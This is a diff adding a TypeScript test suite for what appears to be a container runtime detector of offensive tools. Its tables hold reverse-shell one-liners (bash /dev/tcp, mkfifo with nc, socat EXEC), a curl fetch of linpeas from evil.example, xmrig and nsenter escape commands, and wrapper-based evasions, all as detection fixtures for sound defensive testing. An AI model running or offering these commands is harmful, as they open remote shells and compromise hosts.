@@ -1,0 +1,503 @@
+import { readFileSync } from 'node:fs'
+import { gunzipSync } from 'node:zlib'
+import fc from 'fast-check'
+import t from 'tap'
+import { decodeEvent } from '../../src/correlator/exec-event.js'
+import { KnownError } from '../../src/errors.js'
+import { MAX_WORK, readCommandLine } from '../../src/policy/command-line.js'
+import { splitShell } from '../../src/policy/command-shell.js'
+import { MAX_WORDS, splitArguments } from '../../src/policy/command-words.js'
+import { originOf } from '../../src/policy/exec-origin.js'
+import {
+  compileToolCatalogue,
+  compileToolRules,
+  type ExecFacts,
+  type ExecSighting,
+  inspectExec,
+  parseToolCatalogue,
+  type ToolCatalogue,
+} from '../../src/policy/index.js'
+import type { ToolProfile } from '../../src/policy/tool-catalogue-document.js'
+import { problemOfExpression } from '../../src/policy/tool-expression.js'
+import { isTold } from '../../src/policy/tool-tell.js'
+
+const FIXTURES = new URL('../fixtures/', import.meta.url)
+const FILES = { wrappers: 'command-wrappers.json', tells: 'argument-tells.json', collisions: 'name-collisions.json' }
+
+const tools = parseToolCatalogue(readShipped('offensive-tools.json'), 'offensive-tools.json')
+const rules = compileToolRules({
+  wrappers: { data: readShipped(FILES.wrappers), file: FILES.wrappers },
+  tells: { data: readShipped(FILES.tells), file: FILES.tells },
+  collisions: { data: readShipped(FILES.collisions), file: FILES.collisions },
+})
+const standard = compiled('default')
+const strict = compiled('strict')
+
+function readShipped(name: string): unknown {
+  return JSON.parse(readFileSync(new URL(`../../policies/${name}`, import.meta.url), 'utf8'))
+}
+
+function compiled(profile: ToolProfile, remove: readonly string[] = []): ToolCatalogue {
+  return compileToolCatalogue(tools, { profile, add: [], remove: [...remove] }, rules)
+}
+
+function factsOf(binary: string, args = '', changes: Partial<ExecFacts> = {}): ExecFacts {
+  const rest = { parentBinary: undefined, hardLinks: undefined, isInInitTree: undefined, image: undefined }
+  return { binary, arguments: args === '' ? undefined : args, isExecProbe: false, ...rest, ...changes }
+}
+
+function inspect(binary: string, args = '', catalogue = standard): readonly ExecSighting[] {
+  return inspectExec(catalogue, factsOf(binary, args))
+}
+
+function programs(binary: string, args: string): readonly string[] {
+  return readCommandLine(rules.wrappers, binary, args).commands.map(({ program }) => program)
+}
+
+/** `kind tool matchedOn confidence` of the first sighting; '' of none. */
+function summary([first]: readonly ExecSighting[]): string {
+  return first === undefined ? '' : `${first.kind} ${first.tool?.tool} ${first.matchedOn} ${first.confidence}`
+}
+
+interface EvasionCase {
+  readonly id: string
+  readonly process: {
+    readonly binary: string
+    readonly arguments: string
+    readonly in_init_tree?: boolean
+    readonly binary_properties?: { readonly file: { readonly inode: { readonly links: number } } }
+  }
+  readonly parent?: { readonly binary: string }
+  readonly pod?: { readonly maybe_exec_probe: boolean }
+  readonly expect: {
+    readonly finding: string | null
+    readonly tool?: string | null
+    readonly matchedOn?: string
+    readonly confidence?: string
+  }
+}
+
+t.test('every recorded disguise is seen through, in the default profile and in the strict one', async t => {
+  const rows: readonly EvasionCase[] = JSON.parse(readFileSync(new URL('runtime/evasion-cases.json', FIXTURES), 'utf8'))
+  t.equal(rows.length, 35)
+  for (const { id, process, parent, pod, expect } of rows) {
+    const facts = factsOf(process.binary, process.arguments, {
+      parentBinary: parent?.binary,
+      hardLinks: process.binary_properties?.file.inode.links,
+      isInInitTree: process.in_init_tree,
+      isExecProbe: pod?.maybe_exec_probe === true,
+    })
+    const wanted =
+      expect.finding === null
+        ? ''
+        : `${expect.finding} ${expect.tool?.replace('?', '')} ${expect.matchedOn} ${expect.confidence}`.replace(
+            ' null ',
+            ' undefined ',
+          )
+    t.equal(summary(inspectExec(standard, facts)), wanted, id)
+    // There the package manager is a tool itself, and comes first.
+    if (id === 'apt') t.equal(inspectExec(strict, facts)[1]?.kind, 'tool-install')
+    else t.equal(summary(inspectExec(strict, facts)), wanted, `${id}, strict`)
+  }
+})
+
+t.test('the recorded events hold four tools, and each is found', async t => {
+  const lines = gunzipSync(readFileSync(new URL('tetragon/exec-1k.jsonl.gz', FIXTURES)))
+    .toString('utf8')
+    .split('\n')
+  const found = new Set<string>()
+  for (const line of lines) {
+    const decoded = decodeEvent(line)
+    if (decoded.type !== 'exec' || decoded.event.docker === undefined) continue
+    const { event } = decoded
+    const facts = factsOf(event.binary, event.arguments, { isInInitTree: event.isInInitTree })
+    for (const each of inspectExec(standard, facts)) found.add(`${each.kind}/${each.code} ${each.matchedOn}`)
+  }
+  t.strictSame([...found].sort(), [
+    'offensive-tool/amicontained launcher.command',
+    'offensive-tool/netcat binary.basename',
+    'offensive-tool/responder interpreter.script',
+    'offensive-tool/tcpdump binary.basename',
+  ])
+})
+
+t.test('the words of Tetragon are told apart as far as they can be', async t => {
+  const rows: readonly (readonly [string, readonly string[]])[] = [
+    ['', []],
+    ['-a b', ['-a', 'b']],
+    ['-c "a b" c', ['-c', 'a b', 'c']],
+    [' "{print $1}"', ['', '{print $1}']],
+    ['a  b', ['a', '', 'b']],
+    ['say "hi"', ['say', '"hi"']],
+    ['"open ended', ['"open', 'ended']],
+    ['x"y z"', ['x"y', 'z"']],
+    ['a\nb\tc', ['a\nb\tc']],
+    ['-c "echo "hi" && nmap x"', ['-c', 'echo "hi', '&&', 'nmap', 'x"']],
+  ]
+  for (const [text, expected] of rows) {
+    const words = splitArguments(text, { left: 1_000 })
+    t.strictSame(
+      words.map(word => word.text),
+      expected,
+      text,
+    )
+  }
+  fc.assert(
+    fc.property(fc.array(fc.stringMatching(/^[a-z/.=-]{0,8}( [a-z]{1,4})?$/), { maxLength: 8 }), argv => {
+      const joined = argv.map(each => (each.includes(' ') ? `"${each}"` : each)).join(' ')
+      const words = splitArguments(joined, { left: 10_000 }).map(({ text }) => text)
+      // A last empty element leaves nothing behind but its blank.
+      while (words.at(-1) === '') words.pop()
+      const expected = [...argv]
+      while (expected.at(-1) === '') expected.pop()
+      return JSON.stringify(words) === JSON.stringify(expected)
+    }),
+  )
+})
+
+t.test('the commands of a shell text', async t => {
+  const rows: readonly (readonly [string, readonly string[]])[] = [
+    ['a b', ['a b']],
+    ['a && b || c; d | e & f\ng', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
+    ['(a; b) { c; }', ['a', 'b', 'c']],
+    ['X=1 Y="2 3" a', ['a']],
+    ['if a; then b; else c; fi', ['a', 'b', 'c']],
+    ['for f in *.log; do gzip -9 "$f"; done', ['gzip -9 $f']],
+    ['while ! a; do b; done', ['a', 'b']],
+    ['case $x in y) a;; esac', ['a']],
+    ['a > /tmp/x 2>&1 < y', ['a']],
+    ['a &> log && b >&2 c', ['a', 'b c']],
+    ['a "$(b c)" `d`', ['b c', 'd', 'a  ']],
+    ['bash <(curl x)', ['curl x', 'bash ']],
+    ['a \'b; c\' "d | e"', ['a b; c d | e']],
+    ['a \\; b # c; d\ne', ['a ; b', 'e']],
+    ["n'm'ap x", ['nmap x']],
+    ['"nm"ap', ['nmap']],
+    ['n\\map', ['nmap']],
+    ['a \\\nb', ['a b']],
+    ["a $'b'", ['a b']],
+    ['a "open', ['a open']],
+    ["a 'open", ['a open']],
+    [';;&|', []],
+    ['', []],
+  ]
+  for (const [text, expected] of rows) {
+    const commands = splitShell(text, 64, { left: 10_000 })
+    t.strictSame(
+      commands.map(({ words }) => words.join(' ')),
+      expected,
+      text,
+    )
+  }
+})
+
+t.test('wrappers are taken off, one after the other', async t => {
+  const rows: readonly (readonly [string, string, string, string?])[] = [
+    ['/usr/bin/env', '-i A=1 -u B nmap x', 'nmap'],
+    ['/usr/bin/env', '-S "nmap -v"', 'nmap'],
+    ['/usr/bin/timeout', '-k 5 -s KILL 30 nmap', 'nmap'],
+    ['/usr/bin/timeout', '--signal=9 1m nmap', 'nmap'],
+    ['/usr/bin/nice', '-n 19 nmap', 'nmap'],
+    ['/usr/bin/nohup', '/tmp/x/nmap', '/tmp/x/nmap'],
+    ['/usr/bin/sudo', '-u root -- nmap', 'nmap'],
+    ['/bin/su', 'root -c "nmap x"', 'nmap'],
+    ['/bin/su', '- root', '/bin/su'],
+    ['/usr/bin/xargs', '-n 1 -I {} nmap {}', 'nmap'],
+    ['/usr/bin/strace', '-f -e trace=open -o /tmp/o nmap', 'nmap'],
+    ['/usr/bin/stdbuf', '-oL nmap', 'nmap'],
+    ['/usr/bin/find', '. -name x -exec nmap {} ;', 'nmap'],
+    ['/usr/bin/watch', '-n 1 nmap x', 'nmap'],
+    ['/usr/bin/screen', '-dmS x nmap 1.2.3.4', 'nmap'],
+    ['/usr/bin/tmux', 'new -d -s x "nmap x"', 'nmap'],
+    ['/usr/bin/tmux', 'ls', '/usr/bin/tmux'],
+    ['/usr/bin/node', '/usr/lib/node_modules/npm/bin/npx-cli.js localtunnel', 'localtunnel'],
+    ['/bin/sh', '-c "source /tmp/linpeas.sh"', '/tmp/linpeas.sh'],
+    ['/usr/bin/flock', '/tmp/l nmap', 'nmap'],
+    ['/usr/bin/nsenter', '-t 1 -m nmap', 'nmap'],
+    ['/usr/sbin/chroot', '/host nmap', 'nmap'],
+    ['/sbin/tini', '-- nmap', 'nmap'],
+    ['/bin/gosu', 'nobody nmap', 'nmap'],
+    ['/lib64/ld-linux-x86-64.so.2', '--library-path /lib /opt/nmap', '/opt/nmap'],
+    ['/lib/ld-musl-x86_64.so.1', '/opt/nmap', '/opt/nmap'],
+    ['/usr/bin/qemu-aarch64-static', '/opt/nmap', '/opt/nmap'],
+    ['/bin/busybox', 'nmap x', 'nmap'],
+    ['/bin/busybox', 'sh -c "nmap x"', 'nmap'],
+    ['/bin/sh', '-c nmap 1.2.3.4', 'nmap'],
+    ['/bin/bash', '-lc "nmap x"', 'nmap'],
+    ['/bin/bash', '--norc -x -c "exec nmap x"', 'nmap'],
+    ['/bin/bash', '-o pipefail -c "nmap x"', 'nmap'],
+    ['/bin/bash', '-x /tmp/linpeas.sh -a', '/tmp/linpeas.sh'],
+    ['/bin/sh', '-c "su -c \'timeout 5 nmap x\'"', 'nmap'],
+    ['/bin/sh', '-c "eval nmap x"', 'nmap'],
+    ['/bin/sh', '-c "A=1 command nmap x"', 'nmap'],
+    ['/usr/bin/python3.12', '-u -m sqlmap', 'sqlmap'],
+    ['/usr/bin/python3', '-msqlmap', 'sqlmap'],
+    ['/usr/bin/python3', '-Wignore -um sqlmap', 'sqlmap'],
+    ['/usr/bin/perl5.36', '-w /x/nikto.pl', '/x/nikto.pl'],
+    ['/usr/bin/ruby', '-r json /x/wpscan', '/x/wpscan'],
+    ['/usr/bin/node', '--require x /x/tool.js', '/x/tool.js'],
+    ['/usr/bin/php8.2', '-d a=b -f /x/weevely.php', '/x/weevely.php'],
+    ['/usr/bin/java', '-Xmx1g -cp a:b -jar /x/ysoserial.jar', '/x/ysoserial.jar'],
+    ['/usr/bin/deno', 'run /x/tool.ts', '/x/tool.ts'],
+    ['/usr/bin/npx', '--yes localtunnel@2 --port 80', 'localtunnel@2'],
+    ['/usr/bin/npm', 'exec -- localtunnel', 'localtunnel'],
+    ['/usr/bin/uv', 'tool run netexec', 'netexec'],
+    ['/usr/bin/uvx', '--from x netexec', 'netexec'],
+    ['/usr/local/go/bin/go', 'run github.com/x/nmap@latest', 'github.com/x/nmap@latest'],
+    ['/usr/local/go/bin/go', 'build ./...', '/usr/local/go/bin/go'],
+    ['/usr/bin/python3', '-c "import nmap"', '/usr/bin/python3'],
+    ['/bin/sh', '', '/bin/sh'],
+    ['/tmp/run.sh', '/tmp/run.sh nmap', '/tmp/run.sh'],
+  ]
+  for (const [binary, args, last] of rows) t.equal(programs(binary, args).at(-1), last, `${binary} ${args}`)
+})
+
+t.test('tools are found behind their wrappers, and what led there is told', async t => {
+  const rows: readonly (readonly [string, string, string])[] = [
+    ['/bin/sh', '-c "cd /tmp; nohup ./xmrig -o p &"', 'offensive-tool xmrig shell>launcher.command medium'],
+    ['/bin/sh', '/tmp/linpeas.sh', 'offensive-tool linpeas interpreter.script high'],
+    ['/bin/sh', '-c "sh -c \'nmap x\'"', 'offensive-tool nmap shell.command medium'],
+    ['/usr/bin/proxychains4', '-q nmap -sT 10.0.0.1', 'offensive-tool proxychains binary.basename high'],
+    ['/bin/busybox', 'nc -e /bin/sh 1.2.3.4 9', 'offensive-tool netcat multicall.applet high'],
+    ['/usr/bin/npx', '@scope/localtunnel@2.0', 'offensive-tool localtunnel pkg-runner medium'],
+    ['/usr/bin/socat', 'TCP:1.2.3.4:9 EXEC:/bin/sh', 'offensive-tool socat binary.basename+arg-tell high'],
+    ['/bin/bash', '-c "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"', 'offensive-tool reverse-shell arg-tell medium'],
+    [
+      '/bin/sh',
+      '-c "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 9"',
+      'offensive-tool netcat shell.command low',
+    ],
+    [
+      '/usr/bin/python3',
+      '-c "import socket,subprocess,os;s=socket.socket()"',
+      'offensive-tool reverse-shell arg-tell medium',
+    ],
+    ['/usr/bin/nsenter', '-t 1 -m -u -n -i sh', 'offensive-tool container-escape arg-tell medium'],
+    ['/app/worker', '--donate-level=1 -o x', 'offensive-tool xmrig arg-tell medium'],
+    ['/usr/bin/pip3', 'install impacket==0.12', 'tool-install impacket-wrapper argument medium'],
+    ['/usr/bin/python3', '-m pip install sqlmap', 'tool-install sqlmap argument medium'],
+    ['/sbin/apk', 'add --no-cache nmap', 'tool-install nmap argument medium'],
+    ['/usr/bin/dpkg', '-i /tmp/nmap_7.94_amd64.deb', 'tool-install nmap argument medium'],
+    ['/usr/bin/npm', 'i -g localtunnel', ''],
+    ['/usr/bin/curl', '-sLo /tmp/x https://evil.example/linpeas.sh?x=1', 'tool-staging linpeas argument medium'],
+    ['/usr/bin/wget', 'https://nmap.org/dist/nmap-7.94.tar.bz2', 'tool-staging nmap argument medium'],
+    ['/usr/bin/git', 'clone https://github.com/rebootuser/LinEnum.git', 'tool-staging linenum argument medium'],
+    ['/bin/sh', '-c "command -v nmap"', 'tool-enumeration nmap argument low'],
+    ['/memfd:x (deleted)', '', 'fileless-exec undefined path high'],
+    ['//dev//shm/./x', '', 'fileless-exec undefined path medium'],
+    ['/bin/bash', '/dev/fd/63', 'fileless-exec undefined interpreter.script low'],
+    ['/usr/bin/app (deleted)', '', 'unlinked-exec undefined path medium'],
+    ['/memfd:xmrig (deleted)', '', 'offensive-tool xmrig binary.basename high'],
+  ]
+  for (const [binary, args, expected] of rows) {
+    const sightings = inspect(binary, args)
+    const surest = expected.includes('netcat shell.command low')
+    // The fifo is surer than the name of nc.
+    if (surest) t.equal(summary(sightings), 'offensive-tool reverse-shell arg-tell medium', args)
+    else t.equal(summary(sightings), expected, `${binary} ${args}`)
+  }
+  const [both] = inspect('/usr/bin/proxychains4', '-q nmap -sT 10.0.0.1')
+  t.same(both?.tool?.alsoTools, ['nmap'])
+  const [nested] = inspect('/usr/bin/env', 'timeout 5 python3 /x/sqlmap.py')
+  t.same(nested?.tool?.unwrapped, ['env (launcher)', 'timeout (launcher)', 'python3 (interpreter)'])
+  t.equal(nested?.matchedOn, 'launcher>interpreter.script')
+})
+
+t.test('innocent programs are left alone', async t => {
+  const rows: readonly (readonly [string, string, string?])[] = [
+    ['/usr/bin/hydra', 'serve all --dev'],
+    ['/usr/bin/hydra', '', 'docker.io/oryd/hydra:v2'],
+    ['/usr/local/bin/medusa', 'db:migrate'],
+    ['/usr/bin/cdk', 'deploy --all'],
+    ['/usr/bin/cme', 'check dpkg'],
+    ['/bin/nc', '-zv db 5432'],
+    ['/bin/nc', '-w 1 localhost 2181'],
+    ['/bin/sh', '-c "until nc -z db 5432; do sleep 1; done"'],
+    ['/bin/sh', '-c "timeout 1 bash -c \'</dev/tcp/db/5432\'"'],
+    ['/bin/echo', 'nmap -sS 10.0.0.0/8'],
+    ['/bin/grep', '--rate 5 -p80 10.0.0.1'],
+    ['/bin/rm', '-f /tmp/nmap'],
+    ['/usr/bin/curl', '-sS http://10.0.0.1/'],
+    ['/usr/bin/python3', 'manage.py runserver'],
+    ['/usr/bin/python3', '-m http.server 80'],
+    ['/usr/bin/apt-get', 'install -y curl git'],
+    ['/usr/bin/vim', 'nmap.txt'],
+    ['/proc/self/exe', 'init'],
+    ['/usr/bin/openssl', 's_client -connect db:5432'],
+    ['/usr/bin/socat', '- TCP4:localhost:8080'],
+    ['/usr/bin/npm', 'install'],
+    ['/usr/sbin/iptables', '-w 5 -W 100000 -S KUBE-SERVICES'],
+  ]
+  for (const [binary, args, image] of rows) {
+    t.equal(summary(inspectExec(standard, factsOf(binary, args, { image }))), '', `${binary} ${args}`)
+  }
+  const commands = readFileSync(new URL('runtime/debian-commands.txt', FIXTURES), 'utf8').trim().split('\n')
+  t.ok(commands.length > 1_000)
+  const wrong = commands.filter(
+    name =>
+      inspect(`/usr/bin/${name}`).length +
+        inspect('/bin/sh', `-c "${name} --help"`).length +
+        inspect('/usr/bin/env', name).length >
+      0,
+  )
+  t.strictSame(wrong, [], 'no command of a Debian machine')
+  const noisy = commands.filter(name => inspect(`/usr/bin/${name}`, '', strict).length > 0)
+  const page = readFileSync(new URL('../../docs/detection.md', import.meta.url), 'utf8')
+  t.match(page, `of the ${commands.length.toLocaleString('en')} commands of a Debian 12 machine`)
+  t.match(page, `and \`strict\` ${noisy.length} (`)
+})
+
+t.test('circumstances raise and lower', async t => {
+  const probe = { isExecProbe: true }
+  t.equal(summary(inspectExec(standard, factsOf('/bin/nc', '', probe))), '', 'a weak name in a probe')
+  t.match(summary(inspectExec(standard, factsOf('/x/masscan', '', probe))), / medium$/)
+  t.match(summary(inspectExec(standard, factsOf('/bin/nc', '-e sh 1.2.3.4 9', probe))), / medium$/)
+  t.equal(summary(inspectExec(standard, factsOf('/bin/tcpdump', '', { isInInitTree: true }))), '')
+  t.match(summary(inspectExec(standard, factsOf('/bin/tcpdump', '', { isInInitTree: false }))), /tcpdump/)
+  t.equal(summary(inspectExec(compiled('quiet'), factsOf('/bin/tcpdump', '', { isInInitTree: false }))), '')
+  const kubectl = factsOf('/bin/kubectl', 'get pods', { isInInitTree: false })
+  t.equal(summary(inspectExec(standard, kubectl)), '', "an administrator's tool")
+  const runtime = { parentBinary: '/usr/bin/runc', hardLinks: 0 }
+  t.equal(summary(inspectExec(standard, factsOf('/proc/self/fd/6', 'init', runtime))), '')
+  t.match(summary(inspectExec(standard, factsOf('/proc/self/fd/6', 'x', runtime))), /^fileless-exec/)
+  t.match(summary(inspectExec(standard, factsOf('/usr/bin/edge', '-c net -k key -l h:1'))), /n2n .* medium/)
+})
+
+t.test('a policy can take tells out, with the tool or the technique that they speak of', async t => {
+  const args = '-c "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"'
+  t.equal(summary(inspectExec(compiled('default', ['reverse-shell']), factsOf('/bin/bash', args))), '')
+  t.equal(summary(inspectExec(compiled('default', ['xmrig']), factsOf('/x/y', '--donate-level=1'))), '')
+  t.throws(() => compiled('default', ['reverse-shel']), { code: 'POLICY_INVALID' })
+})
+
+t.test('where a program comes from', async t => {
+  const rows: readonly (readonly [string, string | undefined])[] = [
+    ['/proc/self/fd/3', 'proc-fd'],
+    ['/proc/4711/task/4712/fd/3', 'proc-fd'],
+    ['/proc/self/../thread-self/fd/3', 'proc-fd'],
+    ['/dev/fd/3', 'dev-fd'],
+    ['memfd:x', 'memfd'],
+    ['/memfd: (deleted)', 'memfd'],
+    ['/run/shm/x', 'shared-memory'],
+    ['/dev/shm/a/b', 'shared-memory'],
+    ['/opt/x (deleted)', 'deleted'],
+    ['/opt/dev/shm/x', undefined],
+    ['/proc/self/exe', undefined],
+    ['/usr/bin/fdisk', undefined],
+    ['', undefined],
+  ]
+  for (const [path, origin] of rows) t.equal(originOf(path), origin, path)
+})
+
+/** Texts that make a careless reader go back again and again. */
+const HOSTILE: readonly string[] = [
+  'socat ',
+  'curl ',
+  '"',
+  '" ',
+  'a" ',
+  "'",
+  '$(',
+  '`',
+  '(',
+  '\\',
+  'sh -c "',
+  '-c "sh ',
+  'env ',
+  ';',
+  'x;',
+  '--rate=1 ',
+  '1.1.1.1:',
+  '-s ',
+  '/dev/tcp/a/1 ',
+  'python -c socket ',
+  '-W 0a0a0a ',
+  'a.oast.',
+  '@',
+  '=',
+  ' ',
+  'x',
+  '> ',
+  '<(',
+]
+
+t.test('the work is bounded, whatever the arguments hold', async t => {
+  for (const piece of HOSTILE) {
+    const text = piece.repeat(300_000 / piece.length)
+    for (const [binary, args] of [
+      ['/bin/sh', text],
+      ['/bin/sh', `-c "${text}"`],
+      ['/usr/bin/env', text],
+      ['/usr/bin/curl', text],
+    ] as const) {
+      const line = readCommandLine(rules.wrappers, binary, args)
+      t.ok(line.work <= MAX_WORK + MAX_WORDS && line.commands.length <= 128, `${binary} ${piece}`)
+      t.equal(line.isComplete, false)
+      t.doesNotThrow(() => inspect(binary, args, strict))
+    }
+  }
+})
+
+t.test('each tell takes time in proportion to the text', async t => {
+  for (const tell of rules.tells) {
+    for (const expression of [...tell.all, ...tell.not]) {
+      t.equal(problemOfExpression(expression.source), undefined, `${tell.id} ${expression.source}`)
+    }
+    const started = process.cpuUsage()
+    const pieces = [...HOSTILE, ...tell.literals, ...tell.literals.map(literal => `${literal} `)]
+    for (const piece of pieces) isTold(tell, `${piece.repeat(65_536 / piece.length)}${tell.literals[0]}`)
+    const { user, system } = process.cpuUsage(started)
+    // 0.1 to 10 ms a text; one that is quadratic takes seconds.
+    t.ok((user + system) / 1_000 / pieces.length < 100, tell.id)
+  }
+})
+
+t.test('rules that could be slow, or that are misspelt, are refused', async t => {
+  for (const expression of ['a*', 'a+b', 'a{2,}', '(?=a)', '(?<n>a)', '(a)\\1', 'a{1,999}', '(', 'x'.repeat(501)]) {
+    t.ok(problemOfExpression(expression), expression)
+  }
+  for (const expression of ['a{0,9}', '[*+]', '\\+', '(?:a|b)$', 'a?']) {
+    t.equal(problemOfExpression(expression), undefined, expression)
+  }
+  const source = (data: unknown) => ({ data, file: 'x.json' })
+  const good = {
+    wrappers: source(readShipped(FILES.wrappers)),
+    tells: source(readShipped(FILES.tells)),
+    collisions: source(readShipped(FILES.collisions)),
+  }
+  for (const part of ['wrappers', 'tells', 'collisions'] as const) {
+    try {
+      compileToolRules({ ...good, [part]: source({ version: 1, description: '', extra: 1 }) })
+      t.fail(part)
+    } catch (error) {
+      t.ok(error instanceof KnownError && error.code === 'POLICY_INVALID' && error.message.startsWith('x.json'), part)
+    }
+  }
+})
+
+t.test('every collision and every tell speaks of something that is known', async t => {
+  const names = new Set(tools.tools.map(({ name }) => name))
+  for (const { tool } of rules.collisions.values()) t.ok(names.has(tool), tool)
+  const techniques = new Set(rules.tells.filter(({ tool }) => !names.has(tool)).map(({ tool }) => tool))
+  const page = readFileSync(new URL('../../docs/detection.md', import.meta.url), 'utf8')
+  for (const technique of techniques) t.ok(page.includes(`\`${technique}\``), `docs/detection.md names ${technique}`)
+})
+
+t.test('nothing makes the inspection throw', async t => {
+  const piece = fc.constantFrom(
+    ...['sh', '-c', '"', ' ', "'", '`', '$(', ')', '\\', ';', '|', '&&', '>', '<', '\n', '#', '{', '}', '='],
+    ...['env', 'timeout', '5', 'python3', '-m', 'nmap', 'nc', '-e', '/', 'npx', 'busybox', 'find', '-exec', '\u{202e}'],
+  )
+  const text = fc.oneof(
+    fc.array(piece, { maxLength: 40 }).map(pieces => pieces.join('')),
+    fc.array(piece, { maxLength: 40 }).map(pieces => pieces.join(' ')),
+    fc.string({ unit: 'binary', maxLength: 100 }),
+  )
+  const binary = fc.oneof(fc.constantFrom('/bin/sh', '/usr/bin/env', '/bin/busybox', '/usr/bin/find', ''), text)
+  const property = fc.property(binary, text, (path, args) => {
+    const first = inspect(path, args, strict)
+    // The memory changes nothing.
+    return JSON.stringify(inspect(path, args, strict)) === JSON.stringify(first)
+  })
+  t.doesNotThrow(() => fc.assert(property))
+})
